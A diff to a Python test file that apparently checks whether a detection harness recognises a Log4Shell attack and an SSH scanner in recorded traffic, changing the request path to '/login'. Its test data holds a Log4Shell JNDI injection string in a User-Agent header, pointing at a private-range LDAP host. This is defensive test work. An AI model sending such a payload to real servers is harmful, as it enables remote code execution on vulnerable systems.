@@ -72,9 +72,9 @@ def _request(target: str, headers: dict[str, str] | None) -> Record:
 
 def test_an_attack_is_recognised_among_what_was_received() -> None:
     attack = BY_NAME["log4shell-out-vm1-v4"]
-    assert received([_request("/", {"User-Agent": "${jndi:ldap://10.77.0.9/a}"})], attack)
-    assert received([_request("/", None)], attack)
-    assert not received([_request("/", {"User-Agent": "curl"}), _request("/x", None)], attack)
+    assert received([_request("/login", {"User-Agent": "${jndi:ldap://10.77.0.9/a}"})], attack)
+    assert received([_request("/login", None)], attack)
+    assert not received([_request("/login", {"User-Agent": "curl"}), _request("/x", None)], attack)
     assert not received([Record(0, "http", "connection", "10.77.0.9")], attack)
     scanner = BY_NAME["ssh-scanner-out-vm1-v4"]
     assert isinstance(scanner.message, SshBanner)
